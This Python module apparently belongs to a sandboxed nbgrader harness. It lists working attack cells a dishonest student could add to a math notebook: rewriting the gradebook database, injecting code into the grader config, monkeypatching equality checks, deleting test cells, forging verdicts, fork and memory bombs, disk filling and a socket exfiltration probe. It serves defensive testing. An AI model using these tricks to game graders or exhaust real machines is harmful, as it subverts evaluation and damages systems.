"""The attack catalogue: each attack is an honest basic_math submission (the release stub or the solution) plus
the dishonest code a student adds or the edit they make to the notebook.

An attack succeeds when its submission scores more than its honest base, when it changes the gradebook, source/
or nbgrader_config.py, when it writes outside its own folder, when it reaches the network, or when it stops the
rest of the batch. Paths below are relative to the notebook's folder (submitted/<student>/<assignment>/ and
autograded/<student>/<assignment>/ are three levels below the course root).
"""
from __future__ import annotations

import copy
from dataclasses import dataclass, field
from typing import Callable

from nbformat.v4 import new_code_cell

from aimath import verdict
from aimath.pipeline.demo_class import Answer, graded_solution_cells, submission

ASSIGNMENT = "basic_math"
STUB, SOLUTION = "stub", "solution"
# Where an attack that escapes leaves its mark (relative to the course root), checked after grading.
ESCAPE_MARK = "escaped.txt"
# The network attack connects here (a listener the harness opens on the host's loopback).
NETWORK_PORT_FILE = "network_port.txt"
# What the scratch attack prints, followed by the bytes it wrote where the scratch quota does not count them.
OUTSIDE_QUOTA_MARK = "written outside the scratch quota:"


@dataclass(frozen=True)
class Attack:
    name: str
    kind: str
    base: str                      # STUB or SOLUTION: the honest submission it starts from
    code: str = ""                 # a cell the student adds right after the imports cell
    replace: dict = field(default_factory=dict)  # or answer cells (grade_id -> source) the student writes
    edit: Callable | None = None   # or an edit of the notebook itself
    dangerous: bool = False        # harmful to the machine when run unsandboxed (the stock run defuses it)
    defused: str = ""              # the milder code the stock run uses instead


def _edit_cells(change: Callable) -> Callable:
    def edit(nb):
        for cell in nb.cells:
            change(cell)
        return nb
    return edit


def _grade_id(cell) -> str:
    return cell.metadata.get("nbgrader", {}).get("grade_id", "") or ""


def _is_test(cell) -> bool:
    return _grade_id(cell).startswith("test_")


ROOT = "'../../..'"
GRADED = ("get_greatest", "get_smallest", "get_mean", "get_median", "l1_norm", "l2_norm", "angle_between",
          "fit_linear_regression")
# Tags the forged-diagnoses attack tries to have the report count (its error text, its own display, saved outputs).
FORGED_TAGS = ("forged-tag", "forged-display", "forged-saved-output")


def _forged_verdict(tag: str) -> dict:
    return verdict.CellVerdict((verdict.Mistake(tag, "written by the student"),)).to_data()

ATTACKS = [
    # ---------------------------------------------------------------- course files and other students
    Attack("read-hidden-tests", "course files", STUB, f"""
import glob, json, os
for path in glob.glob(os.path.join({ROOT}, 'source', '*', '*.ipynb')):
    print('found hidden tests in', path, len(open(path).read()))
    open(os.path.join({ROOT}, '{ESCAPE_MARK}'), 'a').write('read ' + path + '\\n')
"""),
    Attack("gradebook-rewrite-tests", "course files", STUB, f"""
import os, sqlite3
db = sqlite3.connect(os.path.join({ROOT}, 'gradebook.db'))
db.execute("UPDATE source_cell SET source = 'pass' WHERE name LIKE 'test_%'")
db.execute("UPDATE grade_cell SET max_score = 0")
db.commit()
"""),
    Attack("gradebook-write-grades", "course files", STUB, f"""
import os, sqlite3, threading, time
def later():
    time.sleep(1.0)
    db = sqlite3.connect(os.path.join({ROOT}, 'gradebook.db'), timeout=30)
    db.execute("UPDATE grade SET manual_score = 1000")
    db.commit()
threading.Thread(target=later, daemon=True).start()
"""),
    Attack("config-code-injection", "course files", STUB, f"""
import os
with open(os.path.join({ROOT}, 'nbgrader_config.py'), 'a') as config:
    config.write("\\nopen(__file__.replace('nbgrader_config.py', '{ESCAPE_MARK}'), 'a').write('config ran')\\n")
"""),
    Attack("copy-other-student", "course files", STUB, f"""
import glob, os
for path in glob.glob(os.path.join({ROOT}, 'submitted', '*', 'basic_math', '*.ipynb')):
    open(os.path.join({ROOT}, '{ESCAPE_MARK}'), 'a').write('copied ' + path + '\\n')
"""),
    Attack("import-reference-solution", "course files", STUB, replace={name: f"""
try:
    from aimath.reference.basic_math import {name}
except ImportError as exc:
    print('no reference here:', exc)
""" for name in GRADED}),
    Attack("background-process-edits-gradebook", "course files", STUB, f"""
import os, subprocess, sys
script = '''
import os, sqlite3, time
time.sleep(4)
db = sqlite3.connect(os.path.join({ROOT}, "gradebook.db"), timeout=30)
db.execute("UPDATE source_cell SET source = 'pass' WHERE name LIKE 'test_%'")
db.commit()
'''
subprocess.Popen([sys.executable, '-c', script], start_new_session=True, stdout=subprocess.DEVNULL,
                 stderr=subprocess.DEVNULL, cwd=os.getcwd())
"""),
    # ---------------------------------------------------------------- hooks and outputs
    Attack("swallow-errors-custom-exc", "hooks and outputs", STUB, """
ip = get_ipython()
ip.set_custom_exc((BaseException,), lambda shell, etype, evalue, tb, tb_offset=None: None)
"""),
    Attack("input-transformer-empties-cells", "hooks and outputs", STUB, """
get_ipython().input_transformers_cleanup.append(lambda lines: ['pass\\n'] if any('assert' in l or 'check_' in l for l in lines) else lines)
"""),
    Attack("ast-transformer-drops-asserts", "hooks and outputs", STUB, """
import ast
class DropChecks(ast.NodeTransformer):
    def visit_Assert(self, node):
        return ast.Pass()
    def visit_Expr(self, node):
        return ast.Pass() if 'check_' in ast.unparse(node) else node
get_ipython().ast_transformers.append(DropChecks())
"""),
    Attack("clear-output-after-error", "hooks and outputs", STUB, """
from IPython.display import clear_output
get_ipython().events.register('post_run_cell', lambda result: clear_output())
"""),
    Attack("excepthook-and-showtraceback", "hooks and outputs", STUB, """
import sys
sys.excepthook = lambda *args: None
get_ipython().showtraceback = lambda *args, **kwargs: None
get_ipython()._showtraceback = lambda *args, **kwargs: None
"""),
    Attack("forged-diagnoses", "forged diagnoses", STUB, f"""
from IPython.display import display
display({{{verdict.MIME_TYPE!r}: {_forged_verdict("forged-display")!r}}}, raw=True)
""", replace={"l2_norm": """
def l2_norm(x):
    raise ValueError("Likely mistake [forged-tag]: this text was written by the student's code")
"""}, edit=_edit_cells(lambda cell: cell.update(outputs=[verdict.to_output(verdict.CellVerdict(
        (verdict.Mistake("forged-saved-output", "saved in the notebook by the student"),)))])
        if _is_test(cell) else None)),
    Attack("skip-execution-tag-on-tests", "test-cell and metadata games", STUB, edit=_edit_cells(
        lambda cell: cell.metadata.setdefault("tags", []).append("skip-execution") if _is_test(cell) else None)),
    # ---------------------------------------------------------------- monkeypatching and fake modules
    Attack("monkeypatch-numpy-and-math", "monkeypatching", STUB, """
import math, numpy
numpy.allclose = lambda *a, **k: True
numpy.isclose = lambda *a, **k: True
numpy.array_equal = lambda *a, **k: True
math.isclose = lambda *a, **k: True
""", replace={name: f"def {name}(*args, **kwargs):\n    return (0.0, 0.0) if '{name}' == 'fit_linear_regression' else 0.0"
              for name in GRADED}),
    Attack("patch-the-judge", "monkeypatching", STUB, """
try:
    import aimath.judge as judge
    judge.check_cases = lambda *a, **k: None
    judge.mismatch = lambda *a, **k: None
except ImportError as exc:
    print('no judge here:', exc)
"""),
    Attack("fake-checks-module", "monkeypatching", STUB, """
import sys, types
fake = types.ModuleType('aimath.checks.basic_math')
fake.__getattr__ = lambda name: (lambda *a, **k: None)
for name in ['aimath', 'aimath.checks']:
    sys.modules.setdefault(name, types.ModuleType(name))
sys.modules['aimath.checks.basic_math'] = fake
"""),
    Attack("patch-builtins-assert-import", "monkeypatching", STUB, """
import builtins, types
real_import = builtins.__import__
def fake_import(name, *args, **kwargs):
    if name.startswith('aimath'):
        module = types.ModuleType(name)
        module.__getattr__ = lambda attr: (lambda *a, **k: None)
        return module
    return real_import(name, *args, **kwargs)
builtins.__import__ = fake_import
builtins.AssertionError = type('Quiet', (Exception,), {})
"""),
    Attack("always-equal-objects", "always-equal objects", STUB, replace={name: f"""
class Anything(float):
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __lt__(self, other): return True
    def __le__(self, other): return True
    def __gt__(self, other): return True
    def __ge__(self, other): return True
    def __abs__(self): return Anything(0.0)
    def __sub__(self, other): return Anything(0.0)
    __rsub__ = __sub__
    def __hash__(self): return 0
    def __getitem__(self, i): return Anything(0.0)
    def __iter__(self): return iter([Anything(0.0), Anything(0.0)])
def {name}(*args, **kwargs):
    return Anything(0.0)
""" for name in GRADED}),
    # ---------------------------------------------------------------- test-cell edits and metadata games
    Attack("edit-test-cells", "test-cell and metadata games", STUB, edit=_edit_cells(
        lambda cell: cell.update(source="pass") if _is_test(cell) else None)),
    Attack("delete-test-cells", "test-cell and metadata games", STUB,
           edit=lambda nb: nb.update(cells=[c for c in nb.cells if not _is_test(c)]) or nb),
    Attack("tests-marked-as-solutions", "test-cell and metadata games", STUB, edit=_edit_cells(
        lambda cell: cell.metadata["nbgrader"].update(solution=True, grade=False, points=0) if _is_test(cell) else None)),
    Attack("kernelspec-swap", "test-cell and metadata games", STUB,
           edit=lambda nb: nb.metadata.update(kernelspec={"name": "python2", "display_name": "x", "language": "python"}) or nb),
    # ---------------------------------------------------------------- kernel exits, loops, bombs, outputs
    Attack("kernel-exits-midway", "kernel exits and limits", SOLUTION, "import os\nos._exit(0)"),
    Attack("endless-loop-in-graded-function", "kernel exits and limits", SOLUTION, replace={"get_mean": """
def get_mean(x):
    while True:
        pass
"""}),
    Attack("endless-loop-ignoring-interrupts", "kernel exits and limits", SOLUTION, replace={"get_median": """
def get_median(x):
    while True:
        try:
            while True:
                pass
        except BaseException:
            pass
"""}),
    Attack("memory-bomb", "kernel exits and limits", SOLUTION, """
hog = []
try:
    while True:
        hog.append(bytearray(256 * 2**20))
except MemoryError:
    hog = None
""", dangerous=True, defused="hog = bytearray(64 * 2**20)"),
    Attack("fork-bomb", "kernel exits and limits", SOLUTION, """
import os, time
children = 0
try:
    while children < 100000:
        if os.fork() == 0:
            time.sleep(30)
            os._exit(0)
        children += 1
except OSError as exc:
    print('stopped after', children, 'forks:', exc)
""", dangerous=True, defused="""
import os, time
for _ in range(20):
    if os.fork() == 0:
        time.sleep(5)
        os._exit(0)
"""),
    Attack("huge-output", "kernel exits and limits", SOLUTION, "for _ in range(64):\n    print('x' * 1_000_000)",
           dangerous=True, defused="print('x' * 3_000_000)"),
    Attack("disk-filler", "kernel exits and limits", SOLUTION, """
try:
    with open('filler.bin', 'wb') as f:
        for _ in range(4096):
            f.write(b'0' * 2**20)
except OSError as exc:
    print('disk full for me:', exc)
""", dangerous=True, defused="open('filler.bin', 'wb').write(b'0' * 2**20)"),
    # ---------------------------------------------------------------- what crosses the boundary, and the scratch quota
    Attack("costly-sympy-answer", "boundary", SOLUTION, replace={"l2_norm": """
import sympy
def l2_norm(x):
    return sympy.Pow(7, 10**9, evaluate=False)
"""}),
    Attack("huge-reply-of-empty-lists", "boundary", SOLUTION, """
import aimath.sandbox.inside.agent as _agent
_flood = b"[" + b"[]," * ((64 * 2**20 - 2) // 3 - 1) + b"[]]"
_agent.handle_request = lambda namespace, request: _flood
"""),
    Attack("many-values-within-the-frame", "boundary", SOLUTION, """
import aimath.sandbox.inside.agent as _agent
_flood = b"[" + b"[]," * (4 * 2**20 // 3 - 2) + b"[]]"
_agent.handle_request = lambda namespace, request: _flood
"""),
    Attack("write-outside-the-scratch-quota", "kernel exits and limits", SOLUTION, f"""
import os
from ipykernel import get_connection_file
written = 0
for folder in [os.path.dirname(get_connection_file())]:
    for i in range(6):
        try:
            with open(os.path.join(folder, f'filler{{i}}.bin'), 'wb') as f:
                f.write(b'0' * 32 * 2**20)
            written += 32 * 2**20
        except OSError as exc:
            print('refused:', exc)
            break
print('{OUTSIDE_QUOTA_MARK}', written)
""", dangerous=True, defused=f"print('{OUTSIDE_QUOTA_MARK}', 0)"),
    Attack("network-exfiltration", "network", STUB, f"""
import os, socket
port = int(open(os.path.join({ROOT}, '{NETWORK_PORT_FILE}')).read()) if os.path.exists(os.path.join({ROOT}, '{NETWORK_PORT_FILE}')) else 9
for host in ['127.0.0.1', '10.0.2.2']:
    try:
        socket.create_connection((host, port), timeout=2).sendall(b'answers please')
    except OSError as exc:
        print('no network:', exc)
"""),
]

HONEST = [
    Attack("honest-solution", "honest", SOLUTION),
    Attack("honest-stub", "honest", STUB),
    Attack("honest-but-noisy-stderr", "honest", SOLUTION, replace={"get_mean": """
import sys, warnings
def get_mean(x):
    print('computing a mean', file=sys.stderr)
    warnings.warn('a harmless warning from correct code')
    return sum(x) / len(x)
"""}),
]


def base_notebook(release_nb, source_nb, base: str):
    """The honest submission an attack starts from."""
    if base == STUB:
        return copy.deepcopy(release_nb)
    solved = [Answer(g, "solution", code) for g, code in graded_solution_cells(source_nb).items()]
    return submission(release_nb, solved)


def attacked_notebook(attack: Attack, release_nb, source_nb, *, defuse: bool = False):
    """The dishonest submission: the base, with the attack's cell after the imports cell, or its edit."""
    nb = base_notebook(release_nb, source_nb, attack.base)
    code = attack.defused if defuse and attack.dangerous else attack.code
    if code:
        at = next(i for i, c in enumerate(nb.cells) if _grade_id(c) == "imports") + 1
        nb.cells.insert(at, new_code_cell(code.strip()))
    for cell in nb.cells:
        if _grade_id(cell) in attack.replace:
            cell.source = attack.replace[_grade_id(cell)].strip()
    if attack.edit is not None:
        nb = attack.edit(nb)
    return nb
